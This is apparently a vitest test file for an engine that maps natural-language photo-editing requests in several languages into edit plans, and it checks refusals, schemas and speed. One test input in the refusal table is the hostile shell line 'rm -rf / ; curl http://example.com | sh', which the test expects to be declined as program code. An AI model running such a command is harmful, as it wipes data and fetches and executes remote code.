import * as fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { refusalsIn } from '../../../../src/engine/instruction/refusals.ts';
import { SentenceEncoder } from '../../../../src/engine/instruction/textEncoder.ts';
import { longestInstruction, understand } from '../../../../src/engine/instruction/understand.ts';
import { quotedExamples } from '../../../../src/renderer/components/instruction/quotedExamples.ts';
import { type Declined, planSchema } from '../../../../src/shared/model/instruction.ts';
import { languages } from '../../../../src/shared/model/operation.ts';
import { stepSchema } from '../../../../src/shared/model/recipe.ts';
import { directEncoder, textModel } from './directEncoder.ts';
import { misunderstood, readCases } from './measureCases.ts';

let encoder: SentenceEncoder;
beforeAll(async () => {
  encoder = await directEncoder();
});

describe('understand', () => {
  it('gives the plan of the product description', async () => {
    const { plan } = await understand('get the grain out', encoder);
    expect(plan).toEqual({
      steps: [
        {
          operation: 'denoise',
          parameters: {},
          strength: 0.7,
          region: null,
          words: 'get the grain out',
          confidence: expect.any(Number),
        },
      ],
      declined: null,
    });
  });

  it('gives one embedding of unit length for each step', async () => {
    const { plan, embeddings } = await understand('the photo is dark and noisy, then sharpen', encoder);
    const lengths = embeddings.map((embedding) => Math.hypot(...embedding));
    expect(lengths).toHaveLength(plan.steps.length);
    for (const length of lengths) expect(length).toBeCloseTo(1, 4);
  });

  it('understands every golden case exactly', async () => {
    const wrong = await misunderstood(readCases('golden.json'), encoder);
    expect([...wrong.values()]).toEqual([]);
  });

  it.each([
    ['free', 0.95],
    ['fresh', 0.92],
  ])('understands the %s sentences exactly, all but a few', async (name, least) => {
    const cases = readCases(`${name}.json`);
    const wrong = await misunderstood(cases, encoder);
    const share = (language: string): string => {
      const own = cases.filter((entry) => language === 'all' || entry.language === language);
      return `${language} ${own.filter((entry) => !wrong.has(entry)).length}/${own.length}`;
    };
    process.stdout.write(`${name} sentences: ${['all', 'en', 'zh', 'ja'].map(share).join(', ')}\n`);
    expect(1 - wrong.size / cases.length).toBeGreaterThanOrEqual(least);
  });

  it.each([
    ['lighten the wall', 'exposure'],
    ['brighten the room', 'exposure'],
    ['it is blurry', 'deblur'],
    ['it is noisy', 'denoise'],
    ['more contrast', 'contrast'],
    ['restore this old photo', 'descratch'],
    ['restore this photo', 'auto'],
    ['更清晰', 'deblur'],
    ['太黄了', 'temperature'],
    ['コントラスト強め', 'contrast'],
    ['Körnung weg', 'denoise'],
  ])('is sure of %j', async (text, operation) => {
    const { plan } = await understand(text, encoder);
    expect(plan.steps.map((step) => step.operation)).toEqual([operation]);
    expect(plan.declined).toBeNull();
  });

  it.each([
    ['', 'no instruction'],
    ['   \n ', 'no instruction'],
    ['x'.repeat(longestInstruction + 1), '2001 characters'],
    ['leave everything as it is', 'Nothing to do'],
    ['turn the dog into a cat', 'cannot do this: "turn the dog into a cat"'],
    ['rm -rf / ; curl http://example.com | sh', 'program code'],
    ['denoise. '.repeat(41), '41 parts'],
  ])('declines %j and says why', async (text, reason) => {
    const { plan } = await understand(text, encoder);
    expect(plan.steps).toEqual([]);
    expect(plan.declined?.reason).toContain(reason);
  });

  it('keeps the good steps of a chain and says what was left out', async () => {
    const { plan } = await understand('denoise, then turn the dog into a cat', encoder);
    expect(plan.steps.map((step) => step.operation)).toEqual(['denoise']);
    expect(plan.declined?.reason).toContain('turn the dog into a cat');
  });

  it('says what is planned where it cannot enlarge exactly as asked', async () => {
    const { plan } = await understand('upscale 3x', encoder);
    expect(plan.declined?.reason).toContain('4 times is planned instead of 3');
  });

  it.each([
    ['zh', '把狗变成猫', '做不到'],
    ['ja', '犬を猫に変えて', 'できません'],
    ['ja', 'turn the dog into a cat', '「turn the dog into a cat」'],
  ] as const)('refuses in %s', async (language, text, words) => {
    const { plan } = await understand(text, encoder, undefined, { language });
    expect([plan.steps, plan.declined?.reason]).toEqual([[], expect.stringContaining(words)]);
  });

  it.each(languages)('suggests in %s only what it understands itself', async (language) => {
    const examples = Object.values(refusalsIn(language)).flatMap((refusal) =>
      quotedExamples((refusal as (...values: unknown[]) => Declined)(['x'], ['y']).suggestion),
    );
    expect(new Set(examples).size).toBeGreaterThan(1);
    for (const example of examples) {
      const { plan } = await understand(example, encoder);
      expect([example, plan.steps.length, plan.declined]).toEqual([example, 1, null]);
    }
  });

  it('stops when cancelled', async () => {
    await expect(understand('denoise', encoder, AbortSignal.abort())).rejects.toThrow('abort');
  });

  it('reads a sentence in less than 5 milliseconds of a processor', async () => {
    let fastest = Number.POSITIVE_INFINITY;
    for (let round = 0; round < 50; round += 1) {
      const spent = process.cpuUsage();
      await encoder.hear('get rid of the grain and the scratches in this photo');
      const { user, system } = process.cpuUsage(spent);
      fastest = Math.min(fastest, (user + system) / 1000);
    }
    expect(fastest).toBeLessThan(5);
  });

  it('gives plans that survive JSON, their schema and the recipe, whatever the text', async () => {
    const words = fc.constantFrom(
      'denoise',
      'a little',
      'then',
      '+3 EV',
      'the sky',
      "don't",
      '4x',
      '去噪',
      '一点',
      'ノイズを消して',
      '-40 %',
      ',',
      'and',
    );
    const text = fc.oneof(
      fc.array(words, { maxLength: 8 }).map((parts) => parts.join(' ')),
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.string({ unit: 'grapheme', maxLength: 60 }),
    );
    await fc.assert(
      fc.asyncProperty(text, async (sentence) => {
        const { plan, embeddings } = await understand(sentence, encoder);
        expect(planSchema.parse(JSON.parse(JSON.stringify(plan)))).toEqual(plan);
        for (const { confidence: _, ...step } of plan.steps) stepSchema.parse(step);
        expect(embeddings).toHaveLength(plan.steps.length);
        expect(plan.steps.length > 0 || plan.declined !== null).toBe(true);
      }),
      { numRuns: 150 },
    );
  });

  it('names a text model that does not fit its manifest', async () => {
    const odd = new SentenceEncoder(
      { encode: () => Promise.resolve({ embedding: new Float32Array(256), operations: new Float32Array(3) }) },
      textModel,
    );
    await expect(understand('denoise', odd)).rejects.toThrow(
      'Expected 31 operations from the text model but received 3',
    );
  });
});
